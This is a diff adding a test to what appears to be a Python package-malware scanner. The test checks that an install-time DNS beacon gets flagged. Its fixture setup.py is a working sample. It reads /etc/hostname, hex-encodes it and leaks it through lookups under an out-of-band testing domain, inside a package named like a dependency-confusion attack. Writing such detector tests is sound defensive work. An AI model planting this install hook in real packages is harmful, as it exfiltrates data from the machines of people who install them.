@@ -194,3 +194,15 @@ def test_clipboard_swapped_for_a_wallet_address_at_import_is_a_clipper() -> None
                "def put(text):\n    pyperclip.copy(text)\n")
     meta = "Metadata-Version: 2.1\nName: clipkit\nVersion: 2.0\nSummary: clipboard helpers\n"
     assert verdict(wheel_bytes({"clipkit/__init__.py": library, "clipkit-2.0.dist-info/METADATA": meta}))[0] == "clean"
+
+
+def test_dns_name_built_under_an_oast_domain_at_install_is_a_beacon() -> None:
+    setup_py = ("import socket\nfrom setuptools import setup\n\n"
+                "def ping(chunk):\n    socket.gethostbyname(f\"{chunk}.c7q2.oast.fun\")\n\n"
+                "for part in open('/etc/hostname').read().encode().hex(), 'end':\n    ping(part)\n"
+                "setup(name='corp-internal-sdk', version='99.0.0')\n")
+    v, strong = verdict(sdist("corp-internal-sdk", "99.0.0", {"setup.py": setup_py}))
+    assert v == "malicious" and "package.install-beacon:critical" in strong, strong
+    fixed = setup_py.replace('f"{chunk}.c7q2.oast.fun"', '"c7q2.oast.fun"')  # a fixed name carries no data
+    assert "package.install-beacon:critical" not in verdict(sdist("corp-internal-sdk", "99.0.0",
+                                                                  {"setup.py": fixed}))[1]
